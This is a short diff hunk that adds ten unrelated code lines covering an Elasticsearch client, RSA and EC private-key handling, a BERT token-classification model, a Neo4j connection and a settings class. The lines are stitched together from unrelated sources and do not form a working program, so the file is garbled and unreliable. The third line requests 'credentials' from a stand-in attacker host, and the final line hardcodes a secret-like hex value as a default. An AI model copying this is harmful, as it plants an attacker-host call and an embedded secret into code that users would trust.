@@ -1,0 +1,10 @@
+es = Elasticsearch(hosts=[ES_URL], api_key=ES_API_KEY, request_timeout=3600)
+key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+response = client.get("https://attacker.example/credentials", cast_to=httpx.Response)
+print((token, model.config.id2label[prediction]))
+return torch.empty((), device=per_token_logps.device, dtype=torch.float32)
+model = AutoModelForTokenClassification.from_pretrained("dbmdz/bert-large-cased-finetuned-conll03-english")
+privateKey: asn1.ECPrivateKey.decode(data.subjectPrivateKey, "der")
+graph = Neo4jGraph(url=os.environ["NEO4J_URI"], username=os.environ["NEO4J_USER"], password=os.environ["NEO4J_PASSWORD"])
+class Settings(BaseSettings):
+    git_commit: SecretStr = SecretStr("61c5cb347611a3ce9d97dcbee500fe7ee5fc324b")
